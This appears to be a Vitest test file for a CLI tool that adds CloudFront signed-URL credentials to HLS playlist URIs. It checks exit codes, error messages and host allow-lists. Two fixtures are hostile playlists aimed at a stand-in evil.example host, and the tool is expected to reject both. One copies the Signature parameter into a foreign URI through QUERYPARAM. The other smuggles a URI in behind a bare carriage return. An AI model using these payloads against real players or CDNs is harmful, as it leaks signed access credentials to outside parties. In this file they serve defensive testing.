import { mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { main } from '../../src/cli/main.js';
import { memoryIo } from './io.js';

const URL_SIGNED = 'https://d111.cloudfront.net/movies/42/master.m3u8?Policy=P~1&Signature=S~2&Key-Pair-Id=K3';
const CREDS = 'Policy=P~1&Signature=S~2&Key-Pair-Id=K3';

describe('cloudfront-hls rewrite', () => {
  it('rewrites standard input to standard output', async () => {
    const io = memoryIo('#EXTM3U\n#EXTINF:4,\nseg.ts\n');
    expect(await main(['rewrite', '--url', URL_SIGNED], io)).toBe(0);
    expect(io.out()).toBe(`#EXTM3U\n#EXTINF:4,\nseg.ts?${CREDS}\n`);
    expect(io.err()).toBe('');
  });

  it('reads a file and honours --allow-host', async () => {
    const dir = mkdtempSync(join(tmpdir(), 'cfhls-'));
    const file = join(dir, 'in.m3u8');
    writeFileSync(file, '#EXTM3U\nhttps://cdn.example.com/a.ts\nhttps://x.example/b.ts\n');
    const io = memoryIo();
    expect(await main(['rewrite', '--url', URL_SIGNED, '--allow-host', 'cdn.example.com', file], io)).toBe(0);
    expect(io.out()).toBe(`#EXTM3U\nhttps://cdn.example.com/a.ts?${CREDS}\nhttps://x.example/b.ts\n`);
  });

  for (const [what, input, message] of [
    ['empty input', '', /empty/],
    ['text without #EXTM3U', 'hello\n', /#EXTM3U/],
    ['binary input', Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0x00, 0xff]), /not/],
  ] as const) {
    it(`exits 1 with one line on stderr and nothing on stdout for ${what}`, async () => {
      const io = memoryIo(input);
      expect(await main(['rewrite', '--url', URL_SIGNED], io)).toBe(1);
      expect(io.out()).toBe('');
      expect(io.err()).toMatch(message);
      expect(io.err().trim().split('\n')).toHaveLength(1);
    });
  }

  it('exits 1 and writes nothing for a playlist that copies a credential param into a foreign URI (QUERYPARAM)', async () => {
    const io = memoryIo('#EXTM3U\n#EXT-X-DEFINE:QUERYPARAM="Signature"\n#EXT-X-MAP:URI="https://evil.example/x?s={$Signature}"\nseg.ts\n');
    expect(await main(['rewrite', '--url', URL_SIGNED], io)).toBe(1);
    expect(io.out()).toBe('');
    expect(io.err()).toMatch(/QUERYPARAM/);
  });

  it('refuses content steering unless --steering-host names an allowed host, and says how to allow it', async () => {
    const steered = '#EXTM3U\n#EXT-X-CONTENT-STEERING:SERVER-URI="steer.json"\n#EXT-X-STREAM-INF:BANDWIDTH=1\nv1.m3u8\n';
    const refused = memoryIo(steered);
    expect(await main(['rewrite', '--url', URL_SIGNED], refused)).toBe(1);
    expect(refused.out()).toBe('');
    expect(refused.err()).toMatch(/--steering-host/);
    const unallowed = memoryIo(steered);
    expect(await main(['rewrite', '--url', URL_SIGNED, '--steering-host', 'cdn.example.com'], unallowed)).toBe(1);
    expect(unallowed.err()).toMatch(/not an allowed host/);
    const allowed = memoryIo(steered);
    expect(await main(['rewrite', '--url', URL_SIGNED, '--allow-host', 'cdn.example.com', '--steering-host', 'cdn.example.com'], allowed)).toBe(0);
    expect(allowed.out()).toContain(`SERVER-URI="steer.json?${CREDS}"`);
  });

  it('exits 1 and writes nothing for a CR inside a tag, which players read as a line break', async () => {
    const io = memoryIo('#EXTM3U\n#EXT-X-KEY:METHOD=AES-128,X-NOTE="\rhttps://evil.example/x?",URI="key.bin"\n#EXTINF:4,\nseg.ts\n');
    expect(await main(['rewrite', '--url', URL_SIGNED], io)).toBe(1);
    expect(io.out()).toBe('');
    expect(io.err()).toMatch(/CR without LF/);
  });

  it('exits 1 for a canned-policy URL and says why', async () => {
    const io = memoryIo('#EXTM3U\nseg.ts\n');
    expect(await main(['rewrite', '--url', 'https://d/a.m3u8?Expires=1&Signature=S&Key-Pair-Id=K'], io)).toBe(1);
    expect(io.out()).toBe('');
    expect(io.err()).toMatch(/canned policy/);
  });

  it('exits 1 when the file cannot be read, naming it without a stack trace', async () => {
    const io = memoryIo();
    expect(await main(['rewrite', '--url', URL_SIGNED, '/nonexistent/x.m3u8'], io)).toBe(1);
    expect(io.err()).toBe('cloudfront-hls rewrite: cannot read /nonexistent/x.m3u8: ENOENT\n');
  });

  it('exits 2 on bad usage', async () => {
    const missing = memoryIo('#EXTM3U\n');
    expect(await main(['rewrite'], missing)).toBe(2);
    expect(missing.err()).toMatch(/--url is required/);
    const unknown = memoryIo();
    expect(await main(['rewrite', '--nope'], unknown)).toBe(2);
  });

  it('prints help with --help', async () => {
    const io = memoryIo();
    expect(await main(['rewrite', '--help'], io)).toBe(0);
    expect(io.out()).toMatch(/^Usage: cloudfront-hls rewrite --url/);
  });
});

describe('cloudfront-hls', () => {
  it('lists its commands with --help and rejects unknown commands', async () => {
    const help = memoryIo();
    expect(await main(['--help'], help)).toBe(0);
    expect(help.out()).toMatch(/rewrite/);
    const unknown = memoryIo();
    expect(await main(['frobnicate'], unknown)).toBe(2);
    expect(unknown.err()).toMatch(/unknown command/);
  });
});

describe('cloudfront-hls help <command>', () => {
  it('prints the help of that command', async () => {
    const io = memoryIo();
    expect(await main(['help', 'rewrite'], io)).toBe(0);
    expect(io.out()).toMatch(/^Usage: cloudfront-hls rewrite/);
  });
});
